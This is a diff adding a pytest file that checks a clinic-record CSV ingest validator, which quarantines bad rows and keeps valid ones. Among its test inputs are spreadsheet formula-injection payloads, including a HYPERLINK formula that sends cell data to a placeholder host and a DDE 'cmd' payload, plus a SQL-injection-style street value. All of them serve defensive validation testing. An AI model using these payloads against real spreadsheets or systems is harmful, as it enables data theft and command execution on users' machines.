@@ -1,0 +1,172 @@
+"""Rows that must be quarantined with the right reason and field while the good rows of
+the same file are accepted; plus inputs that look odd but are valid and must be kept."""
+from __future__ import annotations
+
+import codecs
+
+import pandas as pd
+import pytest
+
+from linkage.ingest import ingest_file
+
+
+def _one_bad_row(definition, vault, kit, tmp_path, **changes):
+    rows = [kit.good_row(i) for i in range(4)]
+    rows[2].update(changes)
+    p = kit.write_csv(tmp_path / "clinic.csv", rows)
+    result = ingest_file(definition, p, vault, today=kit.TODAY)
+    q = kit.read_quarantine(vault)
+    return result, q
+
+
+# (column, bad value, expected reason)
+BAD_VALUES = [
+    ("dob", "March 4 2012", "bad_date"),
+    ("dob", "2012-03-04", "bad_date"),  # ISO in a source that declared %m/%d/%Y
+    ("dob", "02/30/2012", "impossible_date"),
+    ("dob", "13/01/2012", "impossible_date"),
+    ("visit_date", "05/06/2031", "future_date"),
+    ("dob", "01/01/1850", "implausible_date"),
+    ("visits", "3 visits", "wrong_type"),
+    ("visits", "2.5", "wrong_type"),
+    ("visits", "-1", "out_of_range"),
+    ("visits", "101", "out_of_range"),
+    ("visits", "1" * 30, "out_of_range"),
+    ("charge", "NaN", "wrong_type"),
+    ("charge", "inf", "wrong_type"),
+    ("charge", "twelve", "wrong_type"),
+    ("insured", "maybe", "wrong_type"),
+    ("kind", "surgery", "not_allowed_value"),
+    ("kind", "", "missing_required"),
+    ("visit_date", "", "missing_required"),
+    ("visit_id", "", "missing_required"),
+    ("visit_id", "V1/mother", "invalid_record_id"),
+    ("sex", "female", "not_allowed_value"),
+    ("ssn", "21245678X", "wrong_type"),
+    ("ssn", "2124", "wrong_type"),  # a full-SSN source gets four digits
+    ("zip", "2120", "wrong_type"),
+    ("first", "Mar1a", "invalid_characters"),
+    ("last", 'Lo"pez', "invalid_characters"),
+    ("street", "12 Main St; DROP TABLE", "invalid_characters"),
+    ("first", "Maria\nLopez", "embedded_newline"),
+    ("note", "line one\r\nline two", "embedded_newline"),
+    ("first", "Ma\u200bria", "control_character"),  # zero-width space
+    ("last", "Lopez\u202e", "control_character"),  # right-to-left override
+    ("note", "bell\x07", "control_character"),
+    ("first", "A" * 51, "too_long"),
+    ("note", "n" * 31, "too_long"),
+    ("note", '=HYPERLINK("http://x.example/?d="&A1,"click")', "formula_injection"),
+    ("note", "+cmd|' /C calc'!A0", "formula_injection"),
+    ("note", "-2+3", "formula_injection"),
+    ("note", "@SUM(A1:A9)", "formula_injection"),
+    ("note", "\t=1+1", "formula_injection"),
+    ("note", "\r=1+1", "formula_injection"),
+    ("mother_first", "=cmd", "formula_injection"),
+    ("visit_date", "01/01/2011", "event_before_birth"),
+]
+
+
+@pytest.mark.parametrize("column,value,reason", BAD_VALUES, ids=[f"{r}-{c}-{i}" for i, (c, _, r) in enumerate(BAD_VALUES)])
+def test_bad_value_is_quarantined(definition, vault, kit, tmp_path, column, value, reason):
+    result, q = _one_bad_row(definition, vault, kit, tmp_path, **{column: value})
+    assert result.rows_accepted == 3 and result.rows_quarantined == 1
+    assert result.reasons[reason] == 1, result.reasons
+    assert q["_row"].tolist() == ["3"]  # the third data row
+    assert reason in q["_reason"][0].split(";")
+    assert column in q["_field"][0].split(";")
+    ids = kit.read_part(vault, "identifiers")
+    assert "V00002" not in set(ids["source_record_id"])
+
+
+def test_quarantine_file_neutralises_formulas(definition, vault, kit, tmp_path):
+    _, q = _one_bad_row(definition, vault, kit, tmp_path, note="=HYPERLINK(\"http://x.example\")", mother_first="@evil")
+    assert q["note"][0].startswith("'=")
+    assert q["mother_first"][0] == "'@evil"
+    raw = next((vault / "quarantine" / "clinic").glob("*.csv")).read_text(encoding="utf-8")
+    assert ",=HYPERLINK" not in raw and ",@evil" not in raw
+
+
+def test_all_reasons_of_a_row_are_recorded(definition, vault, kit, tmp_path):
+    result, q = _one_bad_row(definition, vault, kit, tmp_path, dob="02/30/2012", kind="surgery", note="=1")
+    assert set(q["_reason"][0].split(";")) == {"impossible_date", "not_allowed_value", "formula_injection"}
+    assert result.rows_quarantined == 1
+
+
+def test_wrong_field_count(definition, vault, kit, tmp_path):
+    p = kit.write_csv(tmp_path / "c.csv", [kit.good_row(i) for i in range(3)])
+    lines = p.read_text(encoding="utf-8").splitlines()
+    lines[2] += ",surplus"
+    lines[3] = ",".join(lines[3].split(",")[:5])
+    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    result = ingest_file(definition, p, vault, today=kit.TODAY)
+    assert result.rows_accepted == 1 and result.reasons["field_count"] == 2
+    q = kit.read_quarantine(vault)
+    assert sorted(q["_row"].tolist()) == ["2", "3"]
+
+
+def test_malformed_quoting_is_quarantined_and_reading_continues(definition, vault, kit, tmp_path):
+    p = kit.write_csv(tmp_path / "c.csv", [kit.good_row(i) for i in range(4)])
+    lines = p.read_text(encoding="utf-8").splitlines()
+    lines[2] = lines[2].replace(",Maria,", ',"Maria"x,')
+    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    result = ingest_file(definition, p, vault, today=kit.TODAY)
+    assert result.reasons["malformed_csv"] == 1 and result.rows_accepted == 3
+
+
+def test_embedded_quotes_and_commas_properly_quoted_are_kept(definition, vault, kit, tmp_path):
+    result, _ = _one_bad_row(definition, vault, kit, tmp_path, last="O'Brien-Smith", note='said "fine", left', street="1200 N. Charles St, Apt #4")
+    assert result.rows_accepted == 4
+    ids = kit.read_part(vault, "identifiers")
+    row = ids[(ids.source_record_id == "V00002") & (ids.role == "subject")].iloc[0]
+    assert row.last_name == "O'Brien-Smith" and row.street == "1200 N. Charles St, Apt #4"
+    content = kit.read_part(vault, "content")
+    assert content.set_index("record_key").loc["clinic:V00002", "note"] == 'said "fine", left'
+
+
+def test_unicode_names_are_kept(definition, vault, kit, tmp_path):
+    result, _ = _one_bad_row(definition, vault, kit, tmp_path, first="José", last="Nguyễn", mother_first="Zoë")
+    assert result.rows_accepted == 4
+
+
+def test_duplicate_record_id_across_chunks(definition, vault, kit, tmp_path):
+    rows = [kit.good_row(i) for i in range(10)]
+    rows[8]["visit_id"] = rows[1]["visit_id"]
+    p = kit.write_csv(tmp_path / "c.csv", rows)
+    result = ingest_file(definition, p, vault, chunk_rows=3, today=kit.TODAY)
+    assert result.reasons["duplicate_record_id"] == 1 and result.rows_accepted == 9
+    assert kit.read_quarantine(vault)["_row"].tolist() == ["9"]
+
+
+def test_row_without_any_identifier(definition, vault, kit, tmp_path):
+    result, q = _one_bad_row(definition, vault, kit, tmp_path, first="", last="", dob="", ssn="", visit_date="05/06/2020")
+    assert result.reasons["no_identifiers"] == 1
+
+
+def test_placeholder_ssn_is_nulled_not_kept(definition, vault, kit, tmp_path):
+    result, _ = _one_bad_row(definition, vault, kit, tmp_path, ssn="999-99-9999", mother_ssn="000000000")
+    assert result.rows_accepted == 4 and result.cleaned["ssn_placeholder_nulled"] == 2
+    ids = kit.read_part(vault, "identifiers").set_index("record_key")
+    assert ids.loc["clinic:V00002", "ssn"] is None
+    assert ids.loc["clinic:V00001", "ssn"] == "212456789"  # dashes removed
+
+
+def test_utf8_bom_is_accepted_and_recorded(definition, vault, kit, tmp_path):
+    p = kit.write_csv(tmp_path / "bom.csv", [kit.good_row(i) for i in range(3)])
+    p.write_bytes(codecs.BOM_UTF8 + p.read_bytes())
+    result = ingest_file(definition, p, vault, today=kit.TODAY)
+    assert result.rows_accepted == 3
+    assert pd.read_json(result.manifest_path, typ="series")["bom_stripped"]
+
+
+def test_crlf_and_blank_lines(definition, vault, kit, tmp_path):
+    p = kit.write_csv(tmp_path / "crlf.csv", [kit.good_row(i) for i in range(3)], lineterminator="\r\n")
+    p.write_bytes(p.read_bytes() + b"\r\n\r\n")
+    result = ingest_file(definition, p, vault, today=kit.TODAY)
+    assert result.rows_accepted == 3 and result.rows_quarantined == 0 and result.blank_lines == 2
+
+
+def test_whitespace_is_trimmed(definition, vault, kit, tmp_path):
+    result, _ = _one_bad_row(definition, vault, kit, tmp_path, first="  Maria ", zip=" 21201-1234 ")
+    assert result.rows_accepted == 4
+    ids = kit.read_part(vault, "identifiers").set_index("record_key")
+    assert ids.loc["clinic:V00002", "first_name"] == "Maria" and ids.loc["clinic:V00002", "zip"] == "21201"
